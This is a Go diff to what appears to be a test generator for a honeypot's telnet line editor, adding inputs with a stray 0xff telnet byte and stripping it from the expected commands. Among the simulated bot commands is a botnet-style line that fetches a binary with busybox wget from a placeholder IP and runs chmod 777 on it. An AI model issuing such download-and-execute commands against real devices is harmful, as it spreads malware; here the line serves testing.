@@ -152,11 +152,13 @@ var protos = []proto{
 				n = r.Range(25, 60) // a bot's whole script in one go: longer than any reader's buffer
 			}
 			for i := n; i > 0; i-- {
-				c := r.PickS([]string{"ls", "cat " + word(r), "uname -a", "wget " + word(r), word(r), "/bin/busybox wget http://198.51.100.7/bins/" + word(r) + "; chmod 777 " + word(r),
+				// "id\xff", "\xffuname": a byte that is no key at all (0xff is the telnet IAC and no UTF-8) next to
+				// a command; the line editor skips it, the command is reported without it
+				c := r.PickS([]string{"ls", "id\xff", "\xffuname", "cat " + word(r), "uname -a", "wget " + word(r), word(r), "/bin/busybox wget http://198.51.100.7/bins/" + word(r) + "; chmod 777 " + word(r),
 					// keys of more than one byte (the line editor reads key by key): a cut can fall inside one
 					"cat caf\u00e9-" + word(r) + ".txt", "echo \u20acuro " + word(r), "ls ~/\u0414\u043e\u043a\u0443\u043c\u0435\u043d\u0442\u044b/" + word(r), word(r) + " \U0001F600"})
 				ch = append(ch, []byte(c+eol()))
-				ex = append(ex, "cmd:"+c)
+				ex = append(ex, "cmd:"+strings.ReplaceAll(c, "\xff", ""))
 			}
 			return ch, ex
 		},
